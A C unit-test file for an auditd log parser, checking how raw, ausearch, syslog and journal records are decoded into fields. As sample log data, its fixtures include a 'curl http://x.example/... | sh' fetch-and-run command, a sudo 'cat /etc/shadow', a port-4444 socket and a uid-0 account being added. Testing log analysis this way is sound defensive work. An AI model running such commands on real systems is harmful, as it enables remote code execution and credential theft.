// SPDX-License-Identifier: Apache-2.0
/* Records of auditd in the forms in which it, ausearch, the syslog and the journal give them. */
#include <string.h>

#include "base/strbuf.h"
#include "harness/test.h"
#include "log/audit.h"

#define NS UINT64_C(1000000000)
#define NOON UINT64_C(1772452800) /* 2026-03-02T12:00:00Z */
#define ID "msg=audit(1772452800.250:7)"
#define GS "\x1d"

static struct arena arena;
static struct log_values values;

static struct log_values *take_of(struct audit_state *state, const char *line, const char *ahead)
{
    values = (struct log_values){.arena = &arena};
    CHECK(audit_take(state, str_from(line), str_from(ahead), &values));
    return &values;
}

static struct str text(const char *name)
{
    struct value v = {};
    const bool is_field = strchr(name, '.') != NULL;
    const struct field_ref ref = is_field ? (struct field_ref){.id = field_from(str_from(name))} : (struct field_ref){.id = F_LOG_VALUE, .has_arg = true, .arg = str_from(name)};
    struct strbuf b = {};
    if (log_values_get(&values, &ref, &v) != 1)
        return STR("<NA>");
    value_add_text(&b, &v);
    const struct str s = arena_str(&arena, strbuf_str(&b));
    strbuf_done(&b);
    return s;
}
#define IS(name, want) CHECK_STR(text(name), (want))

TEST(what_auditd_writes)
{
    struct audit_state state = {};
    (void)take_of(&state,
                  "type=SYSCALL " ID ": arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e items=2 ppid=700 pid=701 auid=1000 uid=0 euid=0 tty=pts0 ses=3 comm=\"my prog\" exe=\"/usr/bin/curl\" key=6578656301746F6F" GS
                  "ARCH=x86_64 AUID=\"alice\" UID=\"root\"",
                  "");
    CHECK_INT(values.time_ns, NOON * NS + NS / 4);
    CHECK_INT(values.type, EVENT_LOG);
    IS("type", "SYSCALL");
    IS("serial", "7");
    IS("syscall", "59");
    IS("SYSCALL", "execve"); /* by the machine and the number */
    IS("a0", "55d");         /* a number, not a text */
    IS("comm", "my prog");
    IS("key", "exec,too");
    IS("AUID", "alice");
    IS("log.pid", "701");
    IS("log.program", "auditd");
    /* who did it stands in the other records of the act too, and what these say themselves counts first */
    (void)take_of(&state, "type=EXECVE " ID ": argc=4 a0=\"curl\" a1=\"-o\" a2=2F746D702F612062 a3_len=6 a3[0]=414243 a3[1]=\"DEF\" pid=9", "");
    IS("a2", "/tmp/a b");
    IS("a3", "ABCDEF");
    IS("cmdline", "curl -o /tmp/a b ABCDEF");
    IS("exe", "/usr/bin/curl");
    IS("key", "exec,too");
    IS("pid", "9");
    (void)take_of(&state, "type=PROCTITLE " ID ": proctitle=6375726C002D6F", "");
    IS("proctitle", "curl -o");
    IS("auid", "1000");
    /* of another act */
    (void)take_of(&state, "type=PATH msg=audit(1772452800.250:8): item=0 name=\"/etc/passwd\" nametype=NORMAL key=(null)", "");
    IS("name", "/etc/passwd");
    IS("exe", "<NA>");
    IS("key", "<NA>");
    /* another machine of 64 bits, and one that nobody knows */
    (void)take_of(&state, "type=SYSCALL " ID ": arch=c00000b7 syscall=221", "");
    IS("SYSCALL", "execve");
    (void)take_of(&state, "type=SYSCALL " ID ": arch=deadbeef syscall=221", "");
    IS("SYSCALL", "<NA>");
    (void)take_of(NULL, "node=web1 type=1306 audit(1772452800.250:9): saddr=0200115CCB0071090000000000000000", "");
    IS("type", "SOCKADDR");
    IS("laddr", "203.0.113.9");
    IS("lport", "4444");
    IS("log.host", "web1");
    (void)take_of(NULL, "type=SOCKADDR " ID ": saddr=0A00005020010DB8" "00000000", "");
    IS("laddr", "<NA>"); /* cut */
    (void)take_of(NULL, "type=SOCKADDR " ID ": saddr=00" GS "SADDR={ saddr_fam=inet laddr=192.0.2.1 lport=80 }", "");
    IS("laddr", "192.0.2.1");
    audit_state_done(&state);
}

TEST(what_ausearch_shows)
{
    static const char *const times[] = {"03/02/2026 12:00:00.250", "03/02/26 12:00:00.250", "02.03.2026 12:00:00.250", "2026-03-02 12:00:00.250"};
    struct audit_state state = {};
    char line[512], syscall[512];
    for (size_t i = 0; i < sizeof(times) / sizeof(*times); i++) {
        (void)snprintf(line, sizeof(line), "type=EXECVE msg=audit(%s:%zu) : argc=3 a0=sh a1=-c a2=curl http://x.example/?a=1&a9=2 | sh", times[i], 20 + i);
        (void)snprintf(syscall, sizeof(syscall), "type=CWD msg=audit(%s:%zu) : cwd=/root\ntype=SYSCALL msg=audit(%s:%zu) : arch=x86_64 syscall=execve success=yes auid=alice uid=root comm=BEEF exe=/usr/bin/dash key=(null)\n----\n",
                       times[i], 20 + i, times[i], 20 + i);
        (void)take_of(&state, line, syscall);
        CHECK_INT(values.time_ns, NOON * NS + NS / 4);
        IS("a1", "-c");
        IS("a2", "curl http://x.example/?a=1&a9=2 | sh");
        IS("cmdline", "sh -c curl http://x.example/?a=1&a9=2 | sh");
        IS("exe", "/usr/bin/dash"); /* of the record that stands last */
        IS("comm", "BEEF");         /* as it is shown, and no digits */
        IS("SYSCALL", "execve");
    }
    (void)take_of(&state, "type=PROCTITLE msg=audit(03/02/2026 12:00:00.250:30) : proctitle=sh -c a=1 b=2 ", "");
    IS("proctitle", "sh -c a=1 b=2");
    audit_state_done(&state);
}

TEST(logins_and_accounts)
{
    (void)take_of(NULL, "type=USER_LOGIN " ID ": pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=28756E6B6E6F776E2075736572 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=ssh res=failed'" GS "UID=\"root\" AUID=\"unset\"", "");
    CHECK_INT(values.type, EVENT_AUTH);
    IS("login.action", "login");
    IS("login.user", "(unknown user");
    IS("login.outcome", "failure");
    IS("login.ip", "203.0.113.9");
    (void)take_of(NULL, "node=db1 type=USER_LOGIN " ID ": pid=9 uid=0 auid=1000 ses=2 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=198.51.100.7 addr=198.51.100.7 terminal=/dev/pts/0 res=success'" GS "ID=\"alice\"", "");
    IS("login.user", "alice");
    IS("login.outcome", "success");
    IS("login.host", "db1");
    (void)take_of(NULL, "type=USER_CMD " ID ": pid=10 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/alice\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'" GS "AUID=\"alice\"", "");
    IS("login.action", "command");
    IS("login.user", "alice");
    IS("login.command", "cat /etc/shadow");
    /* what a program says of who called it does not count before what the kernel says */
    (void)take_of(NULL, "type=USER_CMD " ID ": pid=10 uid=1000 auid=1000 msg='cwd=\"/\" cmd=\"id\" auid=0 AUID=\"root\" res=success'", "");
    IS("auid", "1000");
    (void)take_of(NULL, "type=ADD_USER " ID ": pid=11 uid=0 auid=1000 msg='op=adding user id=0 exe=\"/usr/sbin/useradd\" hostname=h addr=? terminal=pts/0 res=success'" GS "ID=\"root\"", "");
    IS("login.action", "account-added");
    IS("login.reason", "uid-0");
    (void)take_of(NULL, "type=ADD_USER " ID ": pid=11 uid=0 auid=1000 msg='op=adding home directory id=1001 exe=\"/usr/sbin/useradd\" res=success'", "");
    IS("login.action", "<NA>");
    (void)take_of(NULL, "type=ADD_USER " ID ": pid=11 uid=0 auid=1000 msg='op=add-user acct=\"eve\" exe=\"/usr/sbin/useradd\" res=failed'", "");
    IS("login.action", "<NA>");
    (void)take_of(NULL, "type=USER_MGMT " ID ": pid=11 uid=0 auid=1000 msg='op=add-user-to-group grp=\"wheel\" acct=\"eve\" exe=\"/usr/sbin/usermod\" res=success'", "");
    IS("login.action", "group-joined");
    IS("login.target", "eve");
    IS("login.reason", "wheel");
    (void)take_of(NULL, "type=USER_CHAUTHTOK " ID ": pid=11 uid=0 auid=1000 msg='op=PAM:chauthtok grantors=pam_unix acct=\"eve\" exe=\"/usr/bin/passwd\" res=success'", "");
    IS("login.action", "password-changed");
    IS("login.target", "eve");
    /* of the journal */
    values = (struct log_values){.arena = &arena};
    CHECK(audit_take_entry(STR("USER_CMD pid=10 uid=1000 auid=1000 msg='cwd=\"/\" cmd=\"id\" exe=\"/usr/bin/sudo\" res=failed'"), &values));
    IS("type", "USER_CMD");
    IS("login.outcome", "failure");
    CHECK(!audit_take_entry(STR("Reloading rules"), &values));
}

TEST(what_is_none)
{
    static const char *const lines[] = {"", "type=SYSCALL", "type=SYSCALL msg=audit(1772452800.250:7)", "type=SYSCALL msg=audit(1772452800.250): x", "type=SYSCALL msg=audit(soon:7): x", "type= msg=audit(1.0:7): x",
                                        "node=x", "node=x type=A msg=audit(:7): a=1", "kind=SYSCALL msg=audit(1772452800.250:7): a=1", "type=A msg=audit(99/99/2026 12:00:00:7) : a=1"};
    for (size_t i = 0; i < sizeof(lines) / sizeof(*lines); i++) {
        values = (struct log_values){.arena = &arena};
        if (audit_is(str_from(lines[i])) || audit_take(NULL, str_from(lines[i]), STR_NULL, &values))
            test_fail(lines[i], 0, "is taken for a record");
    }
    /* the most arguments that are fields, all of them in the line */
    struct strbuf b = {};
    strbuf_adds(&b, "type=EXECVE " ID ": argc=200");
    for (unsigned i = 0; i < 200; i++)
        strbuf_printf(&b, " a%u=\"x%u\"", i, i);
    values = (struct log_values){.arena = &arena};
    CHECK(audit_take(NULL, strbuf_str(&b), STR_NULL, &values));
    IS("a31", "x31");
    IS("a32", "<NA>");
    CHECK(str_ends(text("cmdline"), STR(" x199")));
    strbuf_done(&b);
    arena_done(&arena);
}
